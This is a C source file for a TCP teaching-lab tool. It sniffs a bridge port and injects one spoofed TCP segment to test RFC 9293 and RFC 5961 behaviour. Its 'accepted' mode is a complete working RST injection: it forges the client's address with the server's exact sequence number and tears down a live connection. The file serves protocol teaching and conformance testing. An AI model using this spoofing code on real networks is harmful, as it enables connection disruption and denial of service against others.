/* tcpteach-inject: a third host on the lab's wire, injects one spoofed RST into a connection. */
#define _GNU_SOURCE
#include "common.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* It runs in a namespace of its own, on a bridge port that floods every frame (bridge learning
 * off), so it sees the client's and the server's segments. It answers with one frame, sent from
 * its own MAC address but with the server's IPv4 address and port as source (to the client), or
 * in mode accepted the client's (to the server), then exits. */

#define FRAME_MAX 2048
#define TCP_FIN   0x01
#define TCP_SYN   0x02
#define TCP_RST   0x04
#define TCP_ACK   0x10

enum mode { MODE_SYN_SENT, MODE_ESTABLISHED, MODE_ACCEPTED };

struct inject_options {
    const char *iface;
    struct in_addr server;
    uint16_t port;
    enum mode mode;
    uint32_t offset;
    unsigned long timeout;
};

/* One IPv4 TCP segment seen on the wire (addresses and ports in network order). */
struct segment {
    unsigned char src_mac[ETH_ALEN];
    struct in_addr src, dst;
    uint16_t sport, dport;
    uint32_t seq, ack;
    unsigned flags;
    size_t len; /* bytes of data */
};

/* Prints the --help text on stdout. */
static void print_help(void)
{
    printf("usage: tcpteach-inject --server ADDR --port PORT [OPTION]... IFACE\n"
           "A third host of the tcpteach lab. It watches IFACE (a bridge port that floods every\n"
           "frame to it) for one connection to the server ADDR:PORT and injects one spoofed\n"
           "segment into it, then exits. IPv4 only. Modes syn-sent and established send the\n"
           "client, from the server's address and port, a segment a correct TCP must ignore, or\n"
           "answer without dying; mode accepted sends the server, from the client's address and\n"
           "port, an RST it must accept:\n"
           "  syn-sent     after the client's first SYN: RST+ACK with ack = ISS+1+OFFSET, not\n"
           "               ISS+1 (RFC 9293 3.10.7.3: the client in SYN_SENT drops it)\n"
           "  established  after the client's third ACK: RST with seq = RCV.NXT+OFFSET, inside\n"
           "               the window but not RCV.NXT (RFC 5961 3.2: challenge ACK, no reset)\n"
           "  accepted     once the server has acknowledged the client's first data: RST with\n"
           "               seq = the server's RCV.NXT (its last ack) exactly: the server drops\n"
           "               the connection without a word (RFC 9293 3.10.7.4), the client is\n"
           "               not told\n"
           "\n"
           "  -s, --server ADDR   the server's numeric IPv4 address (required)\n"
           "  -p, --port PORT     the server's TCP port (required)\n"
           "  -m, --mode MODE     syn-sent (default), established or accepted\n"
           "  -o, --offset N      how far the ack or seq is from the right value\n"
           "                      (1-1000000, default 1000; not with accepted)\n"
           "  -t, --timeout MS    give up when nothing fits after MS milliseconds\n"
           "                      (1-600000, default 10000)\n"
           "  -q, --quiet         print nothing but errors\n"
           "  -h, --help          show this help and exit\n"
           "\n"
           "Needs CAP_NET_RAW. Exit status: 0 the segment was injected, 1 a socket error or\n"
           "nothing to answer within the timeout, 2 a bad command line.\n"
           "Example: tcpteach-inject -s 198.51.100.2 -p 20020 -m syn-sent eth0\n");
}

/* Parses ARGC/ARGV into *O; exits with status 0 after --help and 2 on any bad argument. */
static void parse_options(int argc, char **argv, struct inject_options *o)
{
    static const struct option longs[] = {
        {"server", required_argument, NULL, 's'},  {"port", required_argument, NULL, 'p'},
        {"mode", required_argument, NULL, 'm'},    {"offset", required_argument, NULL, 'o'},
        {"timeout", required_argument, NULL, 't'}, {"quiet", no_argument, NULL, 'q'},
        {"help", no_argument, NULL, 'h'},          {NULL, 0, NULL, 0},
    };
    const char *server = NULL;
    bool have_port = false, have_offset = false;
    int c;

    *o = (struct inject_options){.mode = MODE_SYN_SENT, .offset = 1000, .timeout = 10000};
    opterr = 0; /* we print our own one-line messages */
    while ((c = getopt_long(argc, argv, ":s:p:m:o:t:qh", longs, NULL)) != -1) {
        switch (c) {
        case 's': server = optarg; break;
        case 'p':
            o->port = parse_port("--port", optarg);
            have_port = true;
            break;
        case 'm':
            if (strcmp(optarg, "syn-sent") == 0)
                o->mode = MODE_SYN_SENT;
            else if (strcmp(optarg, "established") == 0)
                o->mode = MODE_ESTABLISHED;
            else if (strcmp(optarg, "accepted") == 0)
                o->mode = MODE_ACCEPTED;
            else
                usage_error("--mode: '%s' is not syn-sent, established or accepted", optarg);
            break;
        case 'o':
            o->offset = (uint32_t)parse_number("--offset", optarg, 1000000);
            if (o->offset == 0)
                usage_error("--offset: 0 would make the segment acceptable");
            have_offset = true;
            break;
        case 't':
            o->timeout = parse_number("--timeout", optarg, 600000);
            if (o->timeout == 0)
                usage_error("--timeout: must be at least 1 ms");
            break;
        case 'q': peer_quiet = true; break;
        case 'h': print_help(); exit(EXIT_OK);
        default: usage_bad_option(c, optopt, argv[optind - 1]);
        }
    }
    if (server == NULL)
        usage_error("--server ADDR is required");
    if (inet_pton(AF_INET, server, &o->server) != 1)
        usage_error("--server: '%s' is not a numeric IPv4 address", server);
    if (!have_port)
        usage_error("--port PORT is required");
    if (have_offset && o->mode == MODE_ACCEPTED)
        usage_error("--offset: mode accepted sends the exact seq, no offset");
    if (argc - optind != 1)
        usage_error("needs exactly one interface name");
    o->iface = argv[optind];
    if (strlen(o->iface) >= IFNAMSIZ)
        usage_error("'%s' is too long for an interface name", o->iface);
}

/* Returns the current CLOCK_MONOTONIC time in milliseconds. */
static long long now_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Reads the big-endian 32-bit number at P. */
static uint32_t get32(const unsigned char *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

/* Writes V big-endian at P. */
static void put32(unsigned char *p, uint32_t v)
{
    p[0] = (unsigned char)(v >> 24);
    p[1] = (unsigned char)(v >> 16);
    p[2] = (unsigned char)(v >> 8);
    p[3] = (unsigned char)v;
}

/* Decodes an Ethernet FRAME of LEN bytes into *S. Returns true for an IPv4 TCP segment. */
static bool decode(const unsigned char *frame, size_t len, struct segment *s)
{
    const unsigned char *ip = frame + ETH_HLEN, *tcp;
    size_t ihl, total, doff;

    if (len < ETH_HLEN + 20 || (frame[12] << 8 | frame[13]) != ETHERTYPE_IP)
        return false;
    ihl = (size_t)(ip[0] & 0x0f) * 4;
    total = (size_t)(ip[2] << 8 | ip[3]);
    if ((ip[0] >> 4) != 4 || ihl < 20 || ip[9] != IPPROTO_TCP || len < ETH_HLEN + ihl + 20)
        return false;
    tcp = ip + ihl;
    doff = (size_t)(tcp[12] >> 4) * 4;
    if (doff < 20 || total < ihl + doff)
        return false;
    s->len = total - ihl - doff;
    memcpy(s->src_mac, frame + ETH_ALEN, ETH_ALEN);
    memcpy(&s->src, ip + 12, 4);
    memcpy(&s->dst, ip + 16, 4);
    memcpy(&s->sport, tcp, 2);
    memcpy(&s->dport, tcp + 2, 2);
    s->seq = get32(tcp + 4);
    s->ack = get32(tcp + 8);
    s->flags = tcp[13];
    return true;
}

/* Folds SUM to 16 bits and returns its ones' complement. */
static unsigned fold(unsigned long sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned)(~sum & 0xffff);
}

/* Sends, from our MAC OUR_MAC to the sender of the segment TO (its MAC, address and port), a
 * 54-byte frame with a TCP segment that claims to come from TO's receiver (its address and port):
 * FLAGS, SEQ and ACK, no data, window 0. Returns 0, or -1 after printing why. */
static int send_spoofed(int fd, const unsigned char *our_mac, const struct segment *to,
                        unsigned flags, uint32_t seq, uint32_t ack)
{
    unsigned char frame[ETH_HLEN + 40] = {0}, *ip = frame + ETH_HLEN, *tcp = ip + 20;
    unsigned sum;

    memcpy(frame, to->src_mac, ETH_ALEN);
    memcpy(frame + ETH_ALEN, our_mac, ETH_ALEN);
    frame[12] = ETHERTYPE_IP >> 8;
    frame[13] = ETHERTYPE_IP & 0xff;
    ip[0] = 0x45; /* IPv4, 20-byte header */
    ip[3] = 40;   /* total length */
    ip[6] = 0x40; /* don't fragment */
    ip[8] = 64;   /* TTL */
    ip[9] = IPPROTO_TCP;
    memcpy(ip + 12, &to->dst, 4); /* e.g. the server's address: where TO was going */
    memcpy(ip + 16, &to->src, 4);
    sum = fold(sum_words(ip, 20, 0));
    ip[10] = (unsigned char)(sum >> 8);
    ip[11] = (unsigned char)(sum & 0xff);
    memcpy(tcp, &to->dport, 2);
    memcpy(tcp + 2, &to->sport, 2);
    put32(tcp + 4, seq);
    put32(tcp + 8, ack);
    tcp[12] = 5 << 4; /* 20-byte header */
    tcp[13] = (unsigned char)flags;
    sum = fold(sum_words(tcp, 20, sum_words(ip + 12, 8, IPPROTO_TCP + 20)));
    tcp[16] = (unsigned char)(sum >> 8);
    tcp[17] = (unsigned char)(sum & 0xff);
    if (send(fd, frame, sizeof(frame), 0) != (ssize_t)sizeof(frame)) {
        complain("send the spoofed segment");
        return -1;
    }
    return 0;
}

/* Writes "a.b.c.d:port" for ADDR and PORT (network order) into BUF (ADDR_TEXT_LEN bytes). */
static const char *endpoint(struct in_addr addr, uint16_t port, char *buf)
{
    struct sockaddr_in sin = {.sin_family = AF_INET, .sin_addr = addr, .sin_port = port};

    return addr_text((const struct sockaddr *)&sin, buf);
}

/* What mode accepted has seen of the connection so far. */
struct data_watch {
    bool have_data;        /* the client's first data segment was seen */
    struct in_addr client; /* its sender */
    uint16_t client_port;  /* network order */
    uint32_t data_end;     /* the seq just past its data */
};

/* Mode accepted: notes in *W the first data segment the client sends to the server O->server,
 * port PORT (network order). Returns true when S is a segment of the server, with ACK and no RST,
 * that acknowledges all that data: its ack is then the server's RCV.NXT. */
static bool data_acked(const struct inject_options *o, uint16_t port, const struct segment *s,
                       struct data_watch *w)
{
    if (!w->have_data) {
        char from[ADDR_TEXT_LEN], to[ADDR_TEXT_LEN];

        if (s->dst.s_addr != o->server.s_addr || s->dport != port || s->len == 0 ||
            (s->flags & (TCP_SYN | TCP_RST)) != 0)
            return false;
        *w = (struct data_watch){.have_data = true,
                                 .client = s->src,
                                 .client_port = s->sport,
                                 .data_end = s->seq + (uint32_t)s->len};
        say("saw the client's first data %s -> %s seq=%u, %zu bytes",
            endpoint(s->src, s->sport, from), endpoint(s->dst, s->dport, to), s->seq, s->len);
        return false;
    }
    return s->src.s_addr == o->server.s_addr && s->sport == port &&
           s->dst.s_addr == w->client.s_addr && s->dport == w->client_port &&
           (s->flags & (TCP_ACK | TCP_RST)) == TCP_ACK && (int32_t)(s->ack - w->data_end) >= 0;
}

/* Watches the wire until the moment of the chosen mode, injects, and returns the exit status. */
static int run(const struct inject_options *o)
{
    unsigned char mac[ETH_ALEN], frame[FRAME_MAX];
    char from[ADDR_TEXT_LEN], to[ADDR_TEXT_LEN];
    uint16_t port = htons(o->port);
    long long deadline = now_ms() + (long long)o->timeout;
    bool have_synack = false;
    uint32_t server_isn = 0;
    struct data_watch watch = {.have_data = false};
    struct segment s;
    int fd = open_packet_socket(o->iface, mac);

    if (fd == -1)
        return EXIT_RUNTIME;
    say("listening on %s for %s to %s", o->iface,
        o->mode == MODE_SYN_SENT      ? "a SYN"
        : o->mode == MODE_ESTABLISHED ? "a handshake"
                                      : "acknowledged data",
        endpoint(o->server, port, to));
    for (;;) {
        struct pollfd pfd = {.fd = fd, .events = POLLIN};
        long long left = deadline - now_ms();
        ssize_t n;
        int ready;

        if (left <= 0) {
            fprintf(stderr, "%s: nothing to answer within %lu ms\n", peer_name, o->timeout);
            close(fd);
            return EXIT_RUNTIME;
        }
        ready = poll(&pfd, 1, (int)left);
        if (ready == -1 && errno != EINTR) {
            complain("poll");
            close(fd);
            return EXIT_RUNTIME;
        }
        if (ready <= 0)
            continue;
        n = recv(fd, frame, sizeof(frame), 0);
        if (n <= 0 || !decode(frame, (size_t)n, &s))
            continue;
        if (o->mode == MODE_ACCEPTED) {
            if (!data_acked(o, port, &s, &watch))
                continue;
            endpoint(s.src, s.sport, from);
            endpoint(s.dst, s.dport, to);
            say("saw the server's ACK %s -> %s ack=%u of the client's data: its RCV.NXT", from, to,
                s.ack);
            if (send_spoofed(fd, mac, &s, TCP_RST, s.ack, 0) == -1)
                break;
            say("injected RST %s -> %s seq=%u (the server's RCV.NXT exactly: it must accept it)",
                to, from, s.ack);
            close(fd);
            return EXIT_OK;
        }
        if (o->mode == MODE_ESTABLISHED && s.src.s_addr == o->server.s_addr && s.sport == port &&
            (s.flags & (TCP_SYN | TCP_ACK | TCP_RST)) == (TCP_SYN | TCP_ACK)) {
            server_isn = s.seq; /* the server's SYN+ACK: the client's RCV.NXT will be y+1 */
            have_synack = true;
            continue;
        }
        if (s.dst.s_addr != o->server.s_addr || s.dport != port)
            continue;
        endpoint(s.src, s.sport, from);
        endpoint(s.dst, s.dport, to);
        if (o->mode == MODE_SYN_SENT && (s.flags & (TCP_SYN | TCP_ACK | TCP_RST)) == TCP_SYN) {
            uint32_t ack = s.seq + 1 + o->offset;
            say("saw SYN %s -> %s seq=%u: the client is in SYN_SENT", from, to, s.seq);
            if (send_spoofed(fd, mac, &s, TCP_RST | TCP_ACK, 0, ack) == -1)
                break;
            say("injected RST+ACK %s -> %s seq=0 ack=%u (ISS+1+%u, not ISS+1=%u)", to, from, ack,
                o->offset, s.seq + 1);
            close(fd);
            return EXIT_OK;
        }
        if (o->mode == MODE_ESTABLISHED && have_synack &&
            (s.flags & (TCP_SYN | TCP_FIN | TCP_RST | TCP_ACK)) == TCP_ACK &&
            s.ack == server_isn + 1) {
            uint32_t seq = server_isn + 1 + o->offset;
            say("saw the third ACK %s -> %s ack=%u: the client is ESTABLISHED", from, to, s.ack);
            if (send_spoofed(fd, mac, &s, TCP_RST, seq, 0) == -1)
                break;
            say("injected RST %s -> %s seq=%u (RCV.NXT+%u, in the window, not RCV.NXT=%u)", to,
                from, seq, o->offset, server_isn + 1);
            close(fd);
            return EXIT_OK;
        }
    }
    close(fd);
    return EXIT_RUNTIME;
}

/* Parses the options, then waits for the moment and injects one segment. */
int main(int argc, char **argv)
{
    struct inject_options o;

    peer_name = "tcpteach-inject";
    parse_options(argc, argv, &o);
    return run(&o);
}
